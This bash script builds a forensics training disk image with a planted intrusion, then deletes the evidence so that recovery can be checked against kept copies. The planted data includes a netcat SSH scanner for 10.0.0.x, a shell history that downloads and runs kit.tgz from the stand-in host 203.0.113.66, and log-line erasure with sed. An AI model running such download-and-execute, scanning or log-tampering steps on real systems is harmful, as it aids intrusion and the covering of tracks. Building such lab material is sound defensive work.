#!/usr/bin/env bash
# Makes the planted case of a disk: a server's ext4 (a copy of this machine's /etc, /usr and /var, as far as it fits) on which
# an intruder logged in, left tools, and then removed 400 of 40,000 lines of auth.log, the shell's history, the tools, and a tree of 405 files.
# What was deleted is kept beside the image, so that what is recovered can be held against it.
#
#	lab/planted.sh DIR [ext4|xfs|btrfs] [GiB]
#
# gives DIR/case.dd, DIR/deleted/ (the files), DIR/removed.lines (the lines) and DIR/dirty.dd, the disk as a snapshot of the running machine has
# it, with 50 files that were synchronised just before. Needs root and loop devices.
set -euo pipefail
dir=$1 kind=${2:-ext4} gib=${3:-4}
mkdir -p "$dir"
img=$dir/case.dd mnt=$(mktemp -d)
trap 'umount "$mnt" 2>/dev/null || true; rmdir "$mnt"; [ -z "${loop:-}" ] || losetup -d "$loop" 2>/dev/null || true' EXIT

rm -f "$img"; truncate -s "${gib}G" "$img"
echo '2048,,L,*' | sfdisk -q "$img"
loop=$(losetup -f --show -o 1048576 "$img")
case $kind in
ext4) mkfs.ext4 -q "$loop" ;;
xfs) mkfs.xfs -q "$loop" ;;
btrfs) mkfs.btrfs -q "$loop" ;;
esac
mount "$loop" "$mnt"

# The server.
mkdir -p "$mnt"/{root,tmp,home/alice,var/log,var/tmp,dev,proc,sys,run}
chmod 1777 "$mnt/tmp" "$mnt/var/tmp"
budget=$((gib * 1024 * 92 / 100 - 700)) # MiB, with room for what is planted
tar -C / --one-file-system -cf - etc 2>/dev/null | tar -C "$mnt" -xf -
for d in usr/bin usr/sbin usr/share/doc usr/share/man usr/include usr/lib usr/share usr/src var/lib/dpkg var/lib usr/local; do
	[ -d "/$d" ] || continue
	n=$(du -smx "/$d" | cut -f1)
	used=$(df -m --output=used "$mnt" | tail -1)
	[ $((used + n)) -lt "$budget" ] || continue
	tar -C / --one-file-system --skip-old-files -cf - "$d" 2>/dev/null | tar -C "$mnt" --skip-old-files -xf -
done
for l in bin sbin lib lib64; do [ ! -L /$l ] || cp -a /$l "$mnt/$l"; done
rm -rf "$mnt"/var/log/*
echo web1 >"$mnt/etc/hostname"
sync -f "$mnt"

# The intruder.
awk 'BEGIN { for (i = 0; i < 40000; i++) {
	s = i * 2; t = sprintf("Mar %2d %02d:%02d:%02d web1 sshd[%d]:", 1 + int(s / 86400), int(s / 3600) % 24, int(s / 60) % 60, s % 60, 1000 + i)
	if (i % 100 == 50) print t " Accepted password for root from 203.0.113.66 port " 20000 + i " ssh2"
	else print t " Failed password for invalid user u" i % 977 " from 198.51.100." i % 250 " port " 20000 + i " ssh2" } }' >"$mnt/var/log/auth.log"
mkdir -p "$mnt/var/tmp/.x" "$mnt/usr/lib/jvm"
printf '#!/bin/sh\nfor i in $(seq 1 254); do nc -z -w1 10.0.0.$i 22 && echo 10.0.0.$i >>out; done\n' >"$mnt/var/tmp/.x/scan.sh"
cp /bin/ls "$mnt/var/tmp/.x/kit.bin"
printf 'wget http://203.0.113.66/kit.tgz\ntar xzf kit.tgz\n./scan.sh\n' >"$mnt/root/.bash_history"
find /usr/lib /usr/share -xdev -type f -size +1k -size -6000k 2>/dev/null | awk 'NR % 41 == 0 && n++ < 405' | while read -r f; do
	mkdir -p "$mnt/usr/lib/jvm$(dirname "$f")"
	cp "$f" "$mnt/usr/lib/jvm$f"
done
umount "$mnt"; mount "$loop" "$mnt"

# What is going to be gone.
rm -rf "$dir/deleted"; mkdir -p "$dir/deleted"
for d in var/tmp/.x root/.bash_history usr/lib/jvm; do tar -C "$mnt" -cf - "$d" | tar -C "$dir/deleted" -xf -; done
grep 203.0.113.66 "$mnt/var/log/auth.log" >"$dir/removed.lines"

sed -i /203.0.113.66/d "$mnt/var/log/auth.log"
rm "$mnt/root/.bash_history"
rm -rf "$mnt/var/tmp/.x" "$mnt/usr/lib/jvm"
umount "$mnt"

# A copy of the running machine, taken of another copy: the case itself is left as it is.
losetup -d "$loop"
cp --sparse=always "$img" "$dir/running.dd"
loop=$(losetup -f --show -o 1048576 "$dir/running.dd")
mount "$loop" "$mnt"
mkdir "$mnt/srv"
for i in $(seq 1 50); do
	seq "$i" 2000 >"$mnt/srv/file$i"
	sync "$mnt/srv/file$i"
done
cp --sparse=always "$dir/running.dd" "$dir/dirty.dd"
umount "$mnt"
rm "$dir/running.dd"
